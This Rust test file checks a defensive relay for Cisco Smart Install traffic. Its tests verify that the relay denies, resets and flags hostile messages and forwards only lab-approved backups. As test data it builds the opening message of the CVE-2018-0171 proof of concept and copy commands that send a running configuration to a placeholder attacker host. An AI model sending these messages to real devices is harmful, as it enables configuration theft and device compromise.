//! Tests of the relay core with messages built by the codec's encoders and the embedded lab
//! policy (director 127.0.0.1, clients 127.0.0.0/8, TFTP 127.0.0.1).

use super::*;

use crate::policy::access::CompiledAccess;
use crate::proto::vstack::{
    Body, CopyCommands, Execute, InitDiscovery, Message, Probe, ProbeReply, Tlv,
};

fn lab() -> CompiledAccess {
    crate::config::lab_default().policy.smart_install.compile()
}

fn endpoints(director: &str) -> Endpoints {
    Endpoints {
        director: format!("{director}:50000").parse().unwrap(),
        client: "127.0.0.2:4786".parse().unwrap(),
    }
}

fn encode(body: Body) -> Vec<u8> {
    Message::new(body).encode().unwrap()
}

fn copy(commands: &[&str]) -> Vec<u8> {
    encode(Body::CopyCommands(CopyCommands::new(commands).unwrap()))
}

/// The Embedi CVE-2018-0171 PoC's first message: init discovery with TLV 1 declaring 216 bytes
/// while 208 are present.
fn cve_init_discovery() -> Vec<u8> {
    let mut bytes = Vec::new();
    for word in [1u32, 1, 7, 0xd8, 1, 0xd8] {
        bytes.extend_from_slice(&word.to_be_bytes());
    }
    bytes.extend_from_slice(&[0x41; 208]);
    bytes
}

fn forwarded(actions: &[Action]) -> Vec<u8> {
    actions
        .iter()
        .filter_map(|a| match a {
            Action::Forward { bytes, .. } => Some(bytes.clone()),
            _ => None,
        })
        .flatten()
        .collect()
}

fn audits(actions: &[Action]) -> Vec<&Inspection> {
    actions
        .iter()
        .filter_map(|a| match a {
            Action::Audit(i) => Some(i.as_ref()),
            _ => None,
        })
        .collect()
}

fn rules(actions: &[Action]) -> Vec<(String, Outcome)> {
    audits(actions)
        .iter()
        .map(|i| (i.decision.rule.name.clone(), i.outcome))
        .collect()
}

fn resets(actions: &[Action]) -> bool {
    actions.last() == Some(&Action::Reset)
}

const BACKUP: &str = "copy system:running-config tftp://127.0.0.1/backup.cfg";

#[test]
fn allowed_director_copy_to_allowed_tftp_is_forwarded_byte_for_byte() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let bytes = copy(&[BACKUP]);
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert_eq!(forwarded(&actions), bytes);
    assert!(!resets(&actions));
    let audit = audits(&actions);
    assert_eq!(audit.len(), 1);
    assert_eq!(audit[0].kind, Some(MessageKind::CopyCommands));
    assert_eq!(audit[0].commands, [BACKUP]);
    assert_eq!(audit[0].hosts, ["127.0.0.1"]);
    assert_eq!(audit[0].decision.rule.name, "director-operations");
    assert_eq!(audit[0].decision.verdict, AccessVerdict::Allow);
}

#[test]
fn copy_to_another_host_is_denied_and_resets() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let bytes = copy(&["copy system:running-config tftp://192.0.2.99/loot.cfg"]);
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert!(forwarded(&actions).is_empty());
    assert!(resets(&actions));
    let audit = audits(&actions);
    assert_eq!(audit[0].hosts, ["192.0.2.99"]);
    assert_eq!(audit[0].decision.verdict, AccessVerdict::Deny);
    assert_eq!(audit[0].outcome, Outcome::Dropped);
    assert!(guard.is_closed());
    assert!(
        guard
            .on_bytes(Flow::DirectorToClient, &copy(&[BACKUP]))
            .is_empty()
    );
}

#[test]
fn execute_from_the_director_is_denied() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let bytes = encode(Body::Execute(
        Execute::new(b"tftp://127.0.0.1/run.txt").unwrap(),
    ));
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert!(forwarded(&actions).is_empty());
    assert!(resets(&actions));
    assert_eq!(audits(&actions)[0].kind, Some(MessageKind::Execute));
}

#[test]
fn cve_init_discovery_is_denied_by_the_builtin_rule() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let actions = guard.on_bytes(Flow::DirectorToClient, &cve_init_discovery());
    assert!(forwarded(&actions).is_empty());
    assert_eq!(
        rules(&actions),
        [(RULE_TLV_OVERRUN.to_owned(), Outcome::Dropped)]
    );
    assert!(resets(&actions));
}

#[test]
fn whole_poc_stream_is_denied_before_anything_is_forwarded() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let mut bytes = cve_init_discovery();
    bytes.extend_from_slice(&[0x44; 2048]);
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert!(forwarded(&actions).is_empty());
    assert!(resets(&actions));
}

#[test]
fn message_split_in_three_chunks_is_forwarded_only_once_complete() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let bytes = copy(&[BACKUP]);
    assert_eq!(bytes.len(), 1048);
    let (a, rest) = bytes.split_at(10);
    let (b, c) = rest.split_at(600);
    assert!(guard.on_bytes(Flow::DirectorToClient, a).is_empty());
    assert!(guard.on_bytes(Flow::DirectorToClient, b).is_empty());
    assert_eq!(guard.buffered(Flow::DirectorToClient), 610);
    let actions = guard.on_bytes(Flow::DirectorToClient, c);
    assert_eq!(forwarded(&actions), bytes);
    assert_eq!(audits(&actions).len(), 1);
}

#[test]
fn two_messages_in_one_chunk_are_forwarded_together() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let mut bytes = encode(Body::Probe(Probe::HELLO));
    bytes.extend(copy(&[BACKUP]));
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert_eq!(forwarded(&actions), bytes);
    assert_eq!(audits(&actions).len(), 2);
}

#[test]
fn allowed_message_before_a_denied_one_in_the_same_chunk_is_forwarded_first() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let probe = encode(Body::Probe(Probe::HELLO));
    let mut bytes = probe.clone();
    bytes.extend(copy(&["copy system:running-config tftp://192.0.2.99/x"]));
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert_eq!(forwarded(&actions), probe);
    assert!(resets(&actions));
}

#[test]
fn probe_from_an_attacker_source_is_denied() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("192.0.2.66"), Limits::default());
    let actions = guard.on_bytes(Flow::DirectorToClient, &encode(Body::Probe(Probe::HELLO)));
    assert!(forwarded(&actions).is_empty());
    assert_eq!(
        rules(&actions),
        [("default-deny".to_owned(), Outcome::Dropped)]
    );
    assert_eq!(audits(&actions)[0].src.ip().to_string(), "192.0.2.66");
}

#[test]
fn probe_reply_from_the_client_is_forwarded() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let reply = encode(Body::ProbeReply(ProbeReply::HELLO));
    let actions = guard.on_bytes(Flow::ClientToDirector, &reply);
    assert_eq!(forwarded(&actions), reply);
    let audit = audits(&actions);
    assert_eq!(audit[0].kind, Some(MessageKind::ClientReply));
    assert_eq!(audit[0].src.to_string(), "127.0.0.2:4786");
}

#[test]
fn length_mismatch_is_a_decode_error_denial() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let bad = Message::new(Body::CopyCommands(CopyCommands::new(&[BACKUP]).unwrap()))
        .danger_encode_with_declared_length(0x400)
        .unwrap();
    let actions = guard.on_bytes(Flow::DirectorToClient, &bad);
    assert!(forwarded(&actions).is_empty());
    assert_eq!(rules(&actions)[0].0, RULE_DECODE_ERROR);
    assert!(resets(&actions));
}

#[test]
fn oversized_header_is_denied_before_the_body_arrives() {
    let policy = lab();
    let limits = Limits::new(1100).unwrap();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), limits);
    let mut header = Vec::new();
    for word in [1u32, 1, 9, 4000] {
        header.extend_from_slice(&word.to_be_bytes());
    }
    let actions = guard.on_bytes(Flow::DirectorToClient, &header);
    assert_eq!(rules(&actions)[0].0, RULE_DECODE_ERROR);
    assert!(resets(&actions));
}

#[test]
fn truncation_at_close_is_denied() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let bytes = copy(&[BACKUP]);
    let part = bytes.get(..100).unwrap();
    assert!(guard.on_bytes(Flow::DirectorToClient, part).is_empty());
    assert!(guard.on_close(Flow::ClientToDirector).is_empty());
    let actions = guard.on_close(Flow::DirectorToClient);
    assert_eq!(rules(&actions)[0].0, RULE_DECODE_ERROR);
    assert!(resets(&actions));
}

#[test]
fn audit_mode_default_forwards_and_records_the_denial() {
    let mut policy = crate::config::lab_default().policy.smart_install;
    policy.default_mode = Mode::Audit;
    policy.checks.url_hosts = Mode::Audit;
    policy.checks.copy_commands = Mode::Audit;
    let policy = policy.compile();
    let mut guard = Guard::new(&policy, endpoints("192.0.2.66"), Limits::default());
    let bytes = copy(&["copy system:running-config tftp://192.0.2.99/loot.cfg"]);
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    assert_eq!(forwarded(&actions), bytes);
    let audit = audits(&actions);
    assert_eq!(audit[0].decision.verdict, AccessVerdict::Deny);
    assert_eq!(audit[0].decision.mode, Mode::Audit);
    assert_eq!(audit[0].outcome, Outcome::Forwarded);
}

#[test]
fn builtin_denials_hold_in_audit_mode() {
    let mut policy = crate::config::lab_default().policy.smart_install;
    policy.default_mode = Mode::Audit;
    let policy = policy.compile();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let actions = guard.on_bytes(Flow::DirectorToClient, &cve_init_discovery());
    assert!(forwarded(&actions).is_empty());
    assert!(resets(&actions));
}

#[test]
fn command_body_with_client_w0_keeps_its_command_kind() {
    let mut message = Message::new(Body::Execute(Execute::new(b"tftp://127.0.0.1/x").unwrap()));
    message.w0 = crate::proto::vstack::W0_CLIENT;
    assert_eq!(policy_kind(&message), MessageKind::Execute);
    let unknown = Message {
        w0: crate::proto::vstack::W0_CLIENT,
        w1: 0,
        body: Body::Unknown {
            msg_type: 11,
            payload: vec![1, 2, 3],
        },
    };
    assert_eq!(policy_kind(&unknown), MessageKind::ClientReply);
    let benign = InitDiscovery::new(vec![Tlv {
        tlv_type: 1,
        value: b"ABCD".to_vec(),
    }]);
    assert_eq!(
        policy_kind(&Message::new(Body::InitDiscovery(benign))),
        MessageKind::InitDiscovery
    );
}

#[test]
fn detail_names_every_audit_field() {
    let policy = lab();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default());
    let actions = guard.on_bytes(Flow::DirectorToClient, &copy(&[BACKUP]));
    let detail = audits(&actions)[0].detail();
    for key in [
        "src",
        "dst",
        "direction",
        "kind",
        "urls",
        "hosts",
        "commands",
        "findings",
        "outcome",
    ] {
        assert!(detail.get(key).is_some(), "{key} missing in {detail}");
    }
    assert_eq!(detail["direction"], "director_to_client");
    assert_eq!(detail["urls"][0], "tftp://127.0.0.1/backup.cfg");
}

fn lab_detector() -> Detector {
    use crate::inspect::knowledge::Knowledge;
    let policy = crate::config::lab_default().policy;
    Detector::new(
        crate::config::rules::builtin().unwrap(),
        Knowledge::from_policy(&policy.smart_install),
    )
}

fn detected(inspection: &Inspection) -> Vec<&str> {
    inspection
        .detections
        .iter()
        .map(|d| d.rule.as_str())
        .collect()
}

#[test]
fn detections_name_the_rules_each_verdict_matched() {
    let policy = lab();
    let detector = lab_detector();
    // An outsider's exfiltration: the connection and the message each match their rules.
    let mut guard = Guard::new(&policy, endpoints("192.0.2.66"), Limits::default())
        .with_detector(Some(&detector));
    let bytes = copy(&["copy system:running-config tftp://192.0.2.66/loot.cfg"]);
    let actions = guard.on_bytes(Flow::DirectorToClient, &bytes);
    let audit = audits(&actions);
    assert_eq!(
        detected(audit[0]),
        [
            "si-non-director",
            "si-get-config",
            "si-url-host-not-allowed"
        ]
    );
    let detail = audit[0].detail();
    assert_eq!(detail["detections"][1]["rule"], "si-get-config");
    assert_eq!(detail["detections"][1]["severity"], "critical");

    // The director's backup to the allowed server matches nothing, however often.
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default())
        .with_detector(Some(&detector));
    let two = [copy(&[BACKUP]), copy(&[BACKUP])].concat();
    let actions = guard.on_bytes(Flow::DirectorToClient, &two);
    assert!(audits(&actions).iter().all(|i| i.detections.is_empty()));
}

#[test]
fn detections_cover_decode_errors_and_the_cve_pattern() {
    let policy = lab();
    let detector = lab_detector();
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default())
        .with_detector(Some(&detector));
    let actions = guard.on_bytes(Flow::DirectorToClient, &cve_init_discovery());
    let audit = audits(&actions);
    assert_eq!(audit.len(), 1);
    assert!(
        detected(audit[0]).contains(&"si-tlv-overflow"),
        "{:?}",
        audit[0].detections
    );

    // A message cut short by the end of the stream.
    let mut guard = Guard::new(&policy, endpoints("127.0.0.1"), Limits::default())
        .with_detector(Some(&detector));
    let bytes = copy(&[BACKUP]);
    let half = bytes.get(..40).unwrap();
    assert!(audits(&guard.on_bytes(Flow::DirectorToClient, half)).is_empty());
    let actions = guard.on_close(Flow::DirectorToClient);
    assert_eq!(detected(audits(&actions)[0]), ["si-length-mismatch"]);

    // Without a detector, verdicts carry no detections.
    let mut guard = Guard::new(&policy, endpoints("192.0.2.66"), Limits::default());
    let actions = guard.on_bytes(Flow::DirectorToClient, &copy(&[BACKUP]));
    assert!(audits(&actions)[0].detections.is_empty());
}
